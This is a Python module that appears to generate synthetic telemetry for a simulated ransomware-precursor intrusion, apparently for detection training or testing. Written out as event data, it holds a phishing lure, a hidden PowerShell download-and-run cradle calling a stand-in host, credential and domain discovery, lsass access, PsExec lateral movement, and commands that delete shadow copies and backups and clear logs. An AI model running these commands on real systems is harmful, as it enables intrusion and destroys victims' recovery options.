"""Chain 2: a document on a buyer's workstation becomes the eve of ransomware on the file and backup servers."""

from __future__ import annotations

from typing import Any

from tools.story.benign.everyday import OFFICE
from tools.story.benign.planned import encoded, remote_service
from tools.story.company import BY_SAM, HOST
from tools.story.formats import mail, network, sysmon, windows
from tools.story.formats.sysmon import POWERSHELL, SYS32, Proc
from tools.story.formats.web import ADDRESS, visit
from tools.story.recorder import Story, digest, t

INCIDENT = "attack-ransomware-precursor"
_PETRA, _DESK = BY_SAM["petra.vogel"], HOST["WS-011"]
_MIRROR = "pkg.static-mirror.example"
_SCRIPT = (
    f"$u='http://{_MIRROR}/c/prtcache.bin';"
    '$d="$env:APPDATA\\Microsoft\\Protect\\prtcache.dll";'
    "(New-Object Net.WebClient).DownloadFile($u,$d);rundll32 $d,Start"
)
_LETTER = """Guten Tag Frau Vogel,

anbei die angefragte Offerte 88213. Bitte aktivieren Sie die Bearbeitung, damit die Preise geladen werden.

Mit freundlichen Gruessen
Jan Oort
"""
_HOME = "C:\\Users\\petra.vogel\\AppData\\"
LOADER = _HOME + "Roaming\\Microsoft\\Protect\\prtcache.dll"
DOCUMENT = "Offerte_88213.docm"
DOCUMENT_BYTES = b"PK\x03\x04" + digest("document", DOCUMENT).encode() * 40
LOADER_SHA256 = digest("file", "pkg.static-mirror.example", "/c/prtcache.bin", "prtcache.bin").lower()


def _document(s: Story) -> Proc:
    """The mail and what opening its document starts; returns the script's PowerShell."""
    text = _LETTER
    letter = mail.Mail(
        sender="Seaworthy Parts Verkauf <verkauf@seaworthy-parts-offerte.example>",
        to=f"{_PETRA.name} <{_PETRA.upn}>",
        subject="Offerte 88213 - bitte bis heute bestaetigen",
        text=text,
        html="".join(f"<p>{paragraph}</p>" for paragraph in text.strip().split("\n\n")),
        address="198.51.100.141",
        helo="vps-2291.offerte-portal.example",
        auth=mail.Auth("pass", "none", "none"),
        attachment=(DOCUMENT, "application/vnd.ms-word.document.macroEnabled.12", DOCUMENT_BYTES),
    )
    mail.eml(s, t(2, "08:31"), "offerte-88213", letter)
    outlook = sysmon.spawn(_DESK, t(2, "06:05"), _PETRA.sam, OFFICE + "OUTLOOK.EXE", f'"{OFFICE}OUTLOOK.EXE"')
    cache = _HOME + f"Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7KD2A1M\\{DOCUMENT}"
    sysmon.file_created(s, outlook, t(2, "08:46:50"), cache)
    opened = f'"{OFFICE}WINWORD.EXE" /n "{cache}" /o ""'
    word = sysmon.process(s, outlook, t(2, "08:47"), OFFICE + "WINWORD.EXE", opened)
    command = f"powershell.exe -NoP -NonI -W Hidden -Enc {encoded(_SCRIPT)}"
    return sysmon.process(s, word, t(2, "08:48:20"), POWERSHELL, command)


def _loader(s: Story, shell: Proc) -> Proc:
    """Download, start and run key of the loader; returns it."""
    fetched: dict[str, Any] = {
        "plain": "/c/prtcache.bin",
        "filename": "prtcache.bin",
        "mime": "application/octet-stream",
    }
    visit(s, _DESK, t(2, "08:48:24"), _MIRROR, proc=shell, agent="", received=412_672, **fetched)
    http = {
        "hostname": _MIRROR,
        "url": "/c/prtcache.bin",
        "http_method": "GET",
        "protocol": "HTTP/1.1",
        "status": 200,
        "length": 412_672,
    }
    signature = "ET HUNTING Suspicious Terse HTTP Request for Executable Content"
    said = (2019714, signature, "Potentially Bad Traffic", 2)
    flow = (_DESK.address, s.port(), ADDRESS[_MIRROR], 80)
    network.alert(s, t(2, "08:48:25"), flow, *said, app="http", http_fields=http)
    sysmon.file_created(s, shell, t(2, "08:48:27"), LOADER)
    command = f'"C:\\Windows\\system32\\rundll32.exe" {LOADER},Start'
    loader = sysmon.process(s, shell, t(2, "08:48:31"), SYS32 + "rundll32.exe", command)
    key = f"HKU\\{_PETRA.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\ProtectCache"
    sysmon.registry_set(s, loader, t(2, "08:49:10"), key, f"rundll32.exe {LOADER},Start")
    return loader


def _beacon(s: Story, loader: Proc) -> None:
    """Home every eleven minutes or so, small and even, until the night."""
    at = t(2, "08:50")
    while at < t(2, "22:30"):
        visit(
            s,
            loader.host,
            at,
            "api.metrics-edge.example",
            proc=loader if s.rng.random() < 0.3 else None,
            sent=640,
            received=410,
            seconds=0.8,
            issuer="CN=api.metrics-edge.example",
        )
        at += 660_000 + s.rng.randrange(-70_000, 70_000)


def _credentials(s: Story, loader: Proc) -> None:
    """Who am I, who are the administrators, and what does lsass hold (an administrator had helped here on Monday)."""
    for clock, command in (
        ("09:31", "whoami /all"),
        ("09:44", 'net group "Domain Admins" /domain'),
        ("10:02", "nltest /domain_trusts"),
        ("10:05", "net view \\\\FS01 /all"),
    ):
        sysmon.process(s, loader, t(2, clock), f"{SYS32}{command.split()[0]}.exe", command)
    elevated = sysmon.process(
        s, loader, t(2, "10:19"), SYS32 + "rundll32.exe", f"rundll32.exe {LOADER},Elevate", integrity="High"
    )
    sysmon.process_access(s, elevated, t(2, "10:21:13"), "lsass.exe", "0x1010", "UNKNOWN(000001D2A77B0B21)")
    sysmon.process_access(s, elevated, t(2, "10:21:14"), "lsass.exe", "0x1410", "UNKNOWN(000001D2A77B0C58)")


def _spread(s: Story, loader: Proc) -> None:
    """By WMI to the jump host, by PsExec to the file and backup servers, with a stolen administrator's account."""
    jump, thief, library = HOST["JUMP01"], "adm.pdevries", "C:\\ProgramData\\prtcache.dll"
    source = loader.host.address
    command = f'wmic /node:"JUMP01" process call create "rundll32 {library},Start"'
    sysmon.process(s, loader, t(2, "13:31"), SYS32 + "wbem\\WMIC.exe", command)
    flow = (source, s.port(), jump.address, 135)
    network.connection(s, t(2, "13:31:01"), flow, sent=2900, received=1900, service="dce_rpc")
    login: dict[str, Any] = {"source": source, "package": "NTLM", "workstation": loader.host.name}
    windows.logon(s, jump, t(2, "13:31:02"), thief, 3, elevated=True, **login)
    wmi = sysmon.wmi_host(jump, t(2, "05:00"))
    started = f"rundll32 {library},Start"
    agent = sysmon.process(s, wmi, t(2, "13:31:04"), SYS32 + "rundll32.exe", started, user=thief, integrity="High")
    sysmon.process(s, agent, t(2, "18:40"), SYS32 + "net.exe", "net view \\\\BKP01 /all", integrity="High")
    tool, options = "C:\\ProgramData\\psexec.exe", "-accepteula -s -d cmd.exe"
    said = (2027267, "ET POLICY PsExec service created", "Potentially Bad Traffic", 2)
    for target, clock in (("FS01", "18:52"), ("BKP01", "19:37")):
        service = remote_service(s, agent, target, t(2, clock), thief, tool, options)
        network.alert(s, t(2, clock) + 900, (jump.address, s.port(), HOST[target].address, 445), *said, app="smb")
        _prepare(s, service, target, t(2, clock) + 22 * 60_000)


def _prepare(s: Story, service: Proc, target: str, at: int) -> None:
    """Everything that would have helped to recover goes."""
    shell = sysmon.process(s, service, at, SYS32 + "cmd.exe", "cmd.exe /c C:\\ProgramData\\p.bat")
    commands = (
        "net stop KeepSafeAgent /y",
        "net stop VSS /y",
        "sc config KeepSafeAgent start= disabled",
        "vssadmin delete shadows /all /quiet",
        "wmic shadowcopy delete",
        "bcdedit /set {default} recoveryenabled no",
        "bcdedit /set {default} bootstatuspolicy ignoreallfailures",
        "wbadmin delete catalog -quiet",
        "wevtutil cl Security",
    )
    for order, command in enumerate(commands):
        moment = at + 2000 + order * 4100
        tool = command.split()[0]
        sysmon.process(s, shell, moment, f"{SYS32}wbem\\WMIC.exe" if tool == "wmic" else f"{SYS32}{tool}.exe", command)
        if command.startswith("net stop"):
            windows.service_state(
                s,
                HOST[target],
                moment + 1500,
                "KeepSafe Backup Agent" if "Keep" in command else "Volume Shadow Copy",
                "stopped",
            )
    windows.log_cleared(s, HOST[target], at + 41_000, "adm.pdevries")


def write(s: Story) -> None:
    """Wednesday, 08:31 to 22:30."""
    with s.part("ransomware", INCIDENT):
        loader = _loader(s, _document(s))
        _beacon(s, loader)
        _credentials(s, loader)
        _spread(s, loader)
